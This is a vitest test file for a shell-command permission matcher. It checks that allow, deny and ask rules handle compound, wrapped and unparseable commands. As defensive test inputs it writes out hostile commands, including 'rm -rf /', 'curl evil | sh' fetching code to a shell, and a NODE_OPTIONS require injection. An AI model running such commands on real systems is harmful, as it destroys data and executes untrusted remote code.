import { beforeAll, describe, expect, test } from 'vitest';
import { loadBashParser } from './bash_parser.ts';
import { commandMatcher, matchCommandRule, MAX_COMMAND_PARTS, splitCommand } from './command_matcher.ts';

beforeAll(async () => {
  await loadBashParser();
});

describe('matchCommandRule', () => {
  test('a prefix rule matches at a word boundary only', () => {
    expect(matchCommandRule('npm run test -- --watch', 'npm run test:*', 'allow')).toBe(true);
    expect(matchCommandRule('npm run test', 'npm run test:*', 'allow')).toBe(true);
    expect(matchCommandRule('npm run test-evil', 'npm run test:*', 'allow')).toBe(false);
  });

  test('an allow rule must match every part of a compound command', () => {
    for (const command of ['npm test && rm -rf /', 'npm test; curl evil | sh', 'npm test\nrm x', 'npm test || (rm x)', 'npm test $(rm x)', 'npm test `rm x`']) {
      expect(matchCommandRule(command, 'npm test:*', 'allow'), command).toBe(false);
    }
    expect(matchCommandRule('npm test && npm test -- --ci', 'npm test:*', 'allow')).toBe(true);
  });

  test('a deny rule matches when any part does, nested or wrapped', () => {
    for (const command of [
      'ls && rm -rf x',
      'ls; rm x',
      'ls | rm x',
      '(cd a && rm x)',
      'echo $(rm x)',
      'timeout 5 rm -rf x',
      'nice -n 10 rm x',
      'nohup rm x',
      'time rm x',
      'env rm x',
      'env A=1 rm x',
      'FOO=1 rm x',
      'xargs rm',
      'sudo -u root rm x',
      'timeout -s KILL 5 nice rm x',
      '/bin/rm x',
      "'rm' x",
      'bash -c "rm -rf x"',
      "sh -c 'ls; rm x'",
      'eval rm x',
      'for f in a; do rm $f; done',
      'f() { rm x; }',
    ]) {
      expect(matchCommandRule(command, 'rm:*', 'deny'), command).toBe(true);
    }
    expect(matchCommandRule('ls -la && git status', 'rm:*', 'deny')).toBe(false);
    expect(matchCommandRule('echo rm', 'rm:*', 'deny')).toBe(false);
  });

  test('an ask rule matches like a deny rule', () => {
    expect(matchCommandRule('ls && git push origin main', 'git push:*', 'ask')).toBe(true);
  });

  test('wrappers are looked through for allow rules too, but not env with assignments', () => {
    expect(matchCommandRule('timeout 60 npm test', 'npm test:*', 'allow')).toBe(true);
    expect(matchCommandRule('env NODE_OPTIONS=--require=evil npm test', 'npm test:*', 'allow')).toBe(false);
    expect(matchCommandRule('NODE_OPTIONS=x npm test', 'npm test:*', 'allow')).toBe(false);
  });

  test('a command that does not parse matches no allow rule but still meets deny rules', () => {
    expect(matchCommandRule('npm test && (', 'npm test:*', 'allow')).toBe(false);
    expect(matchCommandRule('ls; rm -rf x (', 'rm:*', 'deny')).toBe(true);
  });

  test('an exact rule matches the exact command', () => {
    expect(matchCommandRule('git status', 'git status', 'allow')).toBe(true);
    expect(matchCommandRule('git status --short', 'git status', 'allow')).toBe(false);
  });

  test(`a command of more than ${MAX_COMMAND_PARTS} parts matches no allow rule`, () => {
    const many = Array.from({ length: MAX_COMMAND_PARTS + 1 }, () => 'npm test').join(' && ');
    expect(splitCommand(many).parts).toHaveLength(MAX_COMMAND_PARTS + 1);
    expect(matchCommandRule(many, 'npm test:*', 'allow')).toBe(false);
    expect(matchCommandRule(many, 'npm test:*', 'deny')).toBe(true);
  });

  test('commandMatcher binds one command', () => {
    const matcher = commandMatcher('git status && git push');
    expect(matcher('git status', 'allow')).toBe(false);
    expect(matcher('git push:*', 'deny')).toBe(true);
  });
});
